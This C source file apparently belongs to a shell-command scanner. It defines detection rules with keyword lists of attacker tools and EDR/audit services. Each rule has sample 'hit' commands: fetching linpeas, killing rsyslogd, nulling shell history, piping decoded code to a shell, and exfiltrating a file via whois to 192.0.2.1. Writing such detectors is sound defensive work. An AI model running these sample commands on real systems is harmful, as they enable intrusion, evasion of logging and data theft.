/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What is known of families rather than of programs: names under which attackers' tools are fetched, places that lead
 * nowhere good, questions whose answers are put aside, everything of a kind removed at once.
 */
#include "inspect/shell/rule.h"

#include "base/str.h"
#include "inspect/shell/net.h"

#include <ctype.h>
#include <string.h>

static bool lore_contains(const struct shell_command *c, const char *const *words, size_t n)
{
	for (size_t i = 1; i < c->n; i++)
		for (size_t k = 0; k < n && c->argv[i].s[0] != '-'; k++)
			if (strcasestr(c->argv[i].s, words[k]))
				return true;
	return false;
}

/* How far a command's company is looked for: a script of nothing but kill would be read once for each otherwise. */
enum { LORE_NEAR = 64 };

#define LORE_CONTAINS(c, words) lore_contains(c, words, sizeof(words) / sizeof((words)[0]))

/* Is one of the names in what is asked of a host?  What the host is called says nothing of a tool. */
static bool lore_asks_for(const struct shell_command *c, const char *const *names, size_t n)
{
	for (size_t i = 1; i < c->n; i++) {
		const char *s = c->argv[i].s, *host = strstr(s, "://");

		if (s[0] == '-')
			continue;
		if (host)
			s = host + 3 + strcspn(host + 3, "/");
		for (size_t k = 0; k < n; k++)
			if (strcasestr(s, names[k]))
				return true;
	}
	return false;
}

static bool lore_fetches_tool(const struct shell_model *m, const struct shell_command *c)
{
	static const char *const hosts[] = {"exploit-db.com", "gsocket.io"};
	static const char *const names[] = {
		"linpeas",       "peass-ng",    "linenum",     "linux-exploit-suggester",
		"lse.sh",        "/pspy",       "mimipenguin", "mimikatz",
		"lazagne",       "/traitor",    "deepce",      "unix-privesc-check",
		"xmrig",         "/chisel",     "ligolo",      "impacket",
		"sharphound",    "powersploit", "nishang",     "/reptile",
		"diamorphine",   "dirtycow",    "dirty-pipe",  "dirtypipe",
		"pwnkit",        "/exploits/",  "revshell",    "reverse-shell",
		"reverse_shell", "rootkit",     "webshell",    "weevely",
		"cdk-team",      "/pupy",       "merlinagent", "sliver-client",
		"keylogger",     "ransomware",  "/evil.",      "/malware"};

	if (strcmp(c->name, "git") == 0 && strcmp(rule_operand(c, 0), "clone") != 0)
		return false;
	(void)m;
	return LORE_CONTAINS(c, hosts) || lore_asks_for(c, names, sizeof(names) / sizeof(names[0]));
}

static bool lore_onion(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	for (size_t i = 0; i < c->n_hosts; i++)
		if (str_ends(c->hosts[i].name, ".onion"))
			return true;
	for (size_t i = 1; i < c->n; i++)
		if (str_starts(c->argv[i].s, "socks") && strstr(c->argv[i].s, ":9050"))
			return true;
	return false;
}

/* Answers about the machine, its people or its network. */
static bool lore_is_question(const struct shell_model *m, const struct shell_command *c)
{
	if (rule_is("whoami id w who users last lastlog finger netstat ss lsof ifconfig arp route lsmod groups env "
		    "printenv set getent ps pstree mount findmnt systemctl service launchctl",
		    c->name))
		return true;
	return rule_is("cat ls find file", c->name) &&
	       (rule_operands(m, c) & (PLACE(ACCOUNT) | PLACE(SUDOERS) | PLACE(HOME) | PLACE(LOG)));
}

static bool lore_keeps(const struct shell_model *m, const struct shell_command *c)
{
	/* One answer that is put aside is a note; several are a stock. */
	if (m->n < 2 || !lore_is_question(m, c))
		return false;
	for (size_t i = 0; i < c->n_redirects; i++)
		if ((c->redirects[i].kind == REDIRECT_OUT ||
		     c->redirects[i].kind == REDIRECT_APPEND) &&
		    (rule_place(m, c, &c->redirects[i].target) & PLACE(TEMPORARY)))
			return true;
	return false;
}

/* A program of the system under another name where everybody may put one. */
static bool lore_renames(const struct shell_model *m, const struct shell_command *c)
{
	const char *from = rule_operand(c, 0), *to = rule_operand(c, 1);
	const char *base, *name;

	if (!(str_starts(from, "/bin/") || str_starts(from, "/usr/bin/") ||
	      str_starts(from, "/sbin/") || str_starts(from, "/usr/sbin/")) ||
	    !*to || *rule_operand(c, 2))
		return false;
	base = strrchr(to, '/') ? strrchr(to, '/') + 1 : to;
	name = strrchr(from, '/') + 1;
	/* ls-copy is still called after ls; of a shell that is no excuse. */
	return *base && strcmp(base, name) != 0 &&
	       (rule_is_shell(name) || !*name || !str_starts(base, name)) &&
	       (place_of(m->context, to, c->cwd, false) & (PLACE(TEMPORARY) | PLACE(HOME_BELOW)));
}

static bool lore_dmi(const struct shell_model *m, const struct shell_command *c)
{
	static const char *const paths[] = {"/sys/class/dmi/", "/sys/devices/virtual/dmi",
					    "/proc/scsi/scsi", "/sys/hypervisor"};

	/* What model it is, and nothing else: people ask that. */
	if (m->n == 1 && str_ends(rule_operand(c, 0), "/product_name") && !*rule_operand(c, 1))
		return false;
	return LORE_CONTAINS(c, paths);
}

/* kill $(pidof x), x a service that guards or records */
static bool lore_kills(const struct shell_model *m, const struct shell_command *c)
{
	static const char guards[] =
		"syslogd rsyslogd rsyslog syslog-ng syslog auditd kauditd falcon-sensor falcond falcon wazuh-agentd "
		"wazuh-agent wazuh ossec-agentd ossec-syscheckd ossec sshd osqueryd osquery clamd clamav suricata crowdsec "
		"fail2ban fail2ban-server sysmon mdatp wdavdaemon sentinelone sentineld falco journald systemd-journald";
	size_t at = (size_t)(c - m->commands);
	size_t low = at > LORE_NEAR ? at - LORE_NEAR : 0;

	for (size_t i = low; i < at; i++)
		if (rule_is("pgrep pidof", m->commands[i].name))
			for (size_t k = 1; k < m->commands[i].n; k++)
				if (rule_is(guards, m->commands[i].argv[k].s))
					return true;
	return false;
}

static bool lore_ignores(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	for (size_t i = 1; i < c->n; i++)
		if (strcmp(c->argv[i].s, "HISTIGNORE=*") == 0 ||
		    strstr(c->argv[i].s, "HISTFILE=/dev/null") ||
		    strstr(c->argv[i].s, "HISTSIZE=0") || strstr(c->argv[i].s, "PROMPT_COMMAND=") ||
		    strstr(c->argv[i].s, "HISTFILESIZE=0"))
			return strcmp(c->name, "export") == 0
				       ? strcmp(c->argv[i].s, "HISTIGNORE=*") == 0
				       : (rule_writes(m, c) & PLACE(STARTUP)) != 0;
	return false;
}

static bool lore_copies_in(const struct shell_model *m, const struct shell_command *c)
{
	const char *to = rule_operand(c, 2);

	return strchr(rule_operand(c, 1), ':') && !strchr(to, ':') &&
	       (place_of(m->context, to, c->cwd, false) & (PLACE(SYSTEM) | PLACE(BINARY))) &&
	       !(place_of(m->context, to, c->cwd, false) & PLACE(TEMPORARY));
}

static bool lore_later(const struct shell_model *m, const struct shell_command *c)
{
	return (c->via & VIA_LATER) && !rule_is_local(m, c) && c->n_hosts > 0;
}

static bool lore_onto_root(const struct shell_model *m, const struct shell_command *c)
{
	for (size_t i = 1; i + 1 < c->n; i++)
		if (rule_is("-d -dest -D", c->argv[i].s) &&
		    (rule_place(m, c, &c->argv[i + 1]) & (PLACE(ROOT) | PLACE(SYSTEM))))
			return true;
	return false;
}

/* .*, *, ~o: whatever is installed */
static bool lore_is_all(const char *s)
{
	return rule_is(".* * ^ ?* ~i ~o .+", s) || strcmp(s, "*.*") == 0;
}

static bool lore_removes_all(const struct shell_model *m, const struct shell_command *c)
{
	const char *verb = rule_operand(c, 0);

	(void)m;
	if (!rule_is("purge remove autoremove uninstall erase rm un zap", verb) &&
	    !rule_has(c, "-R|--purge|-e"))
		return false;
	for (size_t i = 1; i < c->n; i++)
		if (lore_is_all(c->argv[i].s))
			return true;
	if (!(c->via & VIA_EACH))
		return false;
	for (size_t at = (size_t)(c - m->commands), i = at > LORE_NEAR ? at - LORE_NEAR : 0; i < at;
	     i++)
		if (m->commands[i].group == c->group && m->commands[i].is_piped &&
		    rule_is("freeze list ls -l -qa -Q -q",
			    m->commands[i].n > 1 ? m->commands[i].argv[1].s : ""))
			return true;
	return false;
}

static bool lore_others(const struct shell_model *m, const struct shell_command *c)
{
	static const char *const dirs[] = {"/.ssh", "/.aws", "/.gnupg", "/.kube", "/.mozilla"};

	(void)m;
	for (size_t i = 1; i < c->n; i++)
		for (size_t k = 0; k < sizeof(dirs) / sizeof(dirs[0]); k++)
			if ((str_starts(c->argv[i].s, "/home/*") ||
			     str_starts(c->argv[i].s, "/root/")) &&
			    strstr(c->argv[i].s, dirs[k]))
				return true;
	return false;
}

static bool lore_perl(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	for (size_t i = 1; i < c->n; i++) {
		const char *s = strstr(c->argv[i].s, "eval");

		if (s && (strstr(s, "unpack") || strstr(s, "pack ") || strstr(s, "decode_base64")))
			return true;
	}
	return false;
}

/* A shell that reads what one of the programs before it in the pipe writes. */
static bool lore_is_fed(const struct shell_model *m, const struct shell_command *c, const char *by)
{
	if (!c->has_in || c == m->commands || (c->n > 1 && c->argv[1].s[0] != '-') ||
	    rule_has(c, "-c"))
		return false;
	return c[-1].group == c->group && rule_is(by, c[-1].name);
}

/* What comes out of an archive goes straight into a shell. */
static bool lore_unpacked(const struct shell_model *m, const struct shell_command *c)
{
	return lore_is_fed(m, c,
			   "gunzip zcat gzip bzcat bunzip2 bzip2 xzcat unxz xz zstdcat unzstd zstd "
			   "lz4cat unzip") &&
	       !rule_has(&c[-1], "-l|-t|--list|--test");
}

/* What stands in data, or is put together by an expression, goes straight into a shell. */
static bool lore_from_data(const struct shell_model *m, const struct shell_command *c)
{
	return lore_is_fed(m, c, "jq gojq jaq yq xq dasel xmllint");
}

static bool lore_whois(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	for (size_t i = 1; i < c->n; i++)
		if (c->argv[i].flags & (WORD_UNKNOWN | WORD_EXPANDED))
			return true;
	return false;
}

static bool lore_root_shell(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return (c->via & VIA_ROOT) && c->n == 1 && !c->has_in;
}

static bool lore_logs(const struct shell_model *m, const struct shell_command *c)
{
	static const char *const logs[] = {"/var/log/auth.log", "/var/log/secure",
					   "/var/log/audit/",   "/var/log/ufw.log",
					   "/var/log/wtmp",     "/var/log/btmp",
					   "/var/log/faillog",  "/var/log/lastlog",
					   "/var/run/utmp"};

	(void)m;
	/* Who follows a log watches what happens now. */
	return !(rule_is("tail", c->name) && rule_has(c, "-f|-F|--follow")) &&
	       LORE_CONTAINS(c, logs);
}

#define ROW(kind, conf, lev) .type = FINDING_##kind, .level = THREAT_##lev, .confidence = conf

static const struct shell_rule lore_rows[] = {
	{.id = "CMD-FETCH-TOOL",
	 .reason = "It fetches something that is named like a tool of attackers.",
	 ROW(NETWORK_ACCESS, 0.4, LOW),
	 .programs = "curl wget git aria2c axel fetch http https",
	 .test = lore_fetches_tool,
	 .hit = "wget https://a.example/latest/linpeas.sh",
	 .miss = "wget https://evil.example/cve-2024-1.json"},
	{.id = "CMD-ONION",
	 .reason = "It talks to a host whose place nobody knows.",
	 ROW(NETWORK_ACCESS, 0.5, MEDIUM),
	 .test = lore_onion,
	 .hit = "curl --socks5-hostname localhost:9050 http://abcdefabcdefabcd.onion/x",
	 .miss = "curl http://onion.example/x"},
	{.id = "CMD-HIDDEN-SERVICE",
	 .reason = "It opens this machine to a network in which nobody can be found.",
	 ROW(NETWORK_ACCESS, 0.5, MEDIUM),
	 .programs = "tor",
	 .flags = "--HiddenServiceDir|--hiddenservicedir|--HiddenServicePort",
	 .hit = "tor --HiddenServiceDir /tmp/h",
	 .miss = "tor --verify-config"},
	{.id = "CMD-STOCK-KEPT",
	 .reason = "It puts what it learns of the machine aside in a temporary file.",
	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
	 .programs =
		 "whoami id w who users last lastlog finger netstat ss lsof ifconfig arp route lsmod groups env printenv "
		 "set getent ps pstree mount findmnt systemctl service launchctl cat ls find file",
	 .test = lore_keeps,
	 .hit = "id; env > /tmp/e.txt",
	 .miss = "env > /tmp/e.txt"},
	{.id = "CMD-PROGRAM-RENAMED",
	 .reason =
		 "It puts a program of the system under another name where it can be taken for another one.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "cp ln mv",
	 .test = lore_renames,
	 .hit = "cp /bin/sleep /tmp/crond",
	 .miss = "cp /bin/ls /tmp/ls-copy"},
	{.id = "CMD-FIND-BOARD",
	 .reason =
		 "It asks the firmware what machine this is, as malware does to find out whether it is watched.",
	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
	 .programs = "cat tail head grep egrep strings",
	 .test = lore_dmi,
	 .hit = "cat /sys/class/dmi/id/bios_vendor",
	 .miss = "cat /sys/class/dmi/id/product_name"},
	{.id = "CMD-GUARD-SIGNAL",
	 .reason = "It kills a service that guards or records.",
	 ROW(DANGEROUS_PATTERN, 0.5, MEDIUM),
	 .programs = "kill",
	 .unless = "-0|-HUP|-l",
	 .test = lore_kills,
	 .hit = "kill -9 $(pgrep rsyslogd)",
	 .miss = "kill -9 $(pgrep my-sshd-test)"},
	{.id = "CMD-HISTORY-NEVER",
	 .reason = "It sees to it that no command is written down from now on.",
	 ROW(DANGEROUS_PATTERN, 0.5, MEDIUM),
	 .programs = "export echo printf tee sed",
	 .test = lore_ignores,
	 .hit = "echo 'export HISTFILE=/dev/null' >> ~/.bashrc",
	 .miss = "echo 'export HISTSIZE=10000' >> ~/.bashrc"},
	{.id = "CMD-COPY-IN",
	 .reason = "It copies a file out of a container into the system.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "docker podman nerdctl",
	 .words = "cp",
	 .test = lore_copies_in,
	 .hit = "docker cp x:/a /usr/bin/a",
	 .miss = "docker cp x:/a dist/a"},
	{.id = "CMD-LATER-CALL",
	 .reason = "It arranges that another machine is called when something happens.",
	 ROW(NETWORK_ACCESS, 0.4, LOW),
	 .programs = "curl wget nc ncat",
	 .test = lore_later,
	 .hit = "trap 'curl http://192.0.2.1/x' EXIT",
	 .miss = "trap 'curl http://localhost/x' EXIT"},
	{.id = "CMD-UNPACK-OVER",
	 .reason = "It unpacks an archive over the system.",
	 ROW(DANGEROUS_PATTERN, 0.5, MEDIUM),
	 .programs = "unsquashfs unzip cpio 7z bsdtar",
	 .test = lore_onto_root,
	 .hit = "unsquashfs -f -d / x.sqsh",
	 .miss = "unsquashfs -d out x.sqsh"},
	{.id = "CMD-REMOVE-ALL",
	 .reason = "It removes every package at once.",
	 ROW(DANGEROUS_PATTERN, 0.5, MEDIUM),
	 .programs =
		 "apt apt-get aptitude dnf yum zypper pacman rpm pip pip3 npm gem brew snap apk dpkg choco winget",
	 .test = lore_removes_all,
	 .hit = "apt-get purge -y '.*'",
	 .miss = "apt-get purge -y nginx"},
	{.id = "CMD-LIST-OTHERS",
	 .reason = "It looks into the private directories of every user.",
	 ROW(DATA_LEAK, 0.4, LOW),
	 .programs = "ls find tree du stat",
	 .test = lore_others,
	 .hit = "ls -la /home/*/.ssh",
	 .miss = "ls -la /home/alice/.config"},
	{.id = "CMD-PERL-UNPACKED",
	 .reason = "It runs code that was packed so that nobody can read it.",
	 ROW(DANGEROUS_PATTERN, 0.6, MEDIUM),
	 .programs = "perl",
	 .test = lore_perl,
	 .hit = "perl -e 'eval unpack u=>q{_}'",
	 .miss = "perl -e 'print unpack u=>q{_}'"},
	{.id = "CMD-ARCHIVE-PIPE",
	 .reason = "It runs what comes out of an archive, and nobody has read that.",
	 ROW(DANGEROUS_PATTERN, 0.5, MEDIUM),
	 .programs = "sh bash dash zsh ksh ash python python3 perl ruby node php",
	 .test = lore_unpacked,
	 .hit = "gunzip -c x.gz | sh",
	 .miss = "gunzip -c x.gz | sort"},
	{.id = "CMD-DATA-PIPE",
	 .reason = "It runs what stands in data, and nobody has read that.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "sh bash dash zsh ksh ash",
	 .test = lore_from_data,
	 .hit = "jq -r .cmd a.json | sh",
	 .miss = "jq -r .cmd a.json | sort"},
	{.id = "CMD-WHOIS-SEND",
	 .reason = "It sends data away in a question to a server of somebody's choice.",
	 ROW(DATA_LEAK, 0.5, MEDIUM),
	 .programs = "whois finger rlogin",
	 .flags = "-h|--host|-p|--port|-l",
	 .test = lore_whois,
	 .hit = "whois -h 192.0.2.1 -p 43 \"$(cat notes)\"",
	 .miss = "whois -h whois.example.com example.com"},
	{.id = "CMD-MAKE-EVAL",
	 .reason = "It hands a recipe to make that stands in no file.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "make gmake",
	 .flags = "--eval|-E",
	 .hit = "make --eval='x:;sh'",
	 .miss = "make -s test"},
	{.id = "CMD-ROOT-PROMPT",
	 .reason = "It opens, as root, a program from which a shell can be had.",
	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
	 .programs =
		 "view ex ed pico python python2 python3 perl ruby irb pry lua node php tclsh wish "
		 "ghci R octave gdb ftp sqlite3 mysql psql jshell mc ranger nnn less more minicom cpan expect ipython",
	 .test = lore_root_shell,
	 .hit = "sudo gdb",
	 .miss = "sudo vim"},
	{.id = "CMD-ENCRYPT-FILES",
	 .reason = "It makes files unreadable for whoever has no key.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "ccencrypt ccrypt mcrypt aescrypt bcrypt",
	 .unless = "-d|--decrypt|--help|--version",
	 .hit = "ccencrypt -K p notes",
	 .miss = "ccrypt -d notes.cpt"},
	{.id = "CMD-READ-LOGINS",
	 .reason = "It reads who logged in, when and from where.",
	 ROW(DATA_LEAK, 0.35, LOW),
	 .programs =
		 "cat tail head less more strings zip tar cp base64 xxd utmpdump grep awk sed curl",
	 .test = lore_logs,
	 .hit = "cat /var/log/auth.log",
	 .miss = "sudo tail -f /var/log/auth.log"},
};

const struct shell_rules shell_rules_lore = {lore_rows, sizeof(lore_rows) / sizeof(lore_rows[0])};
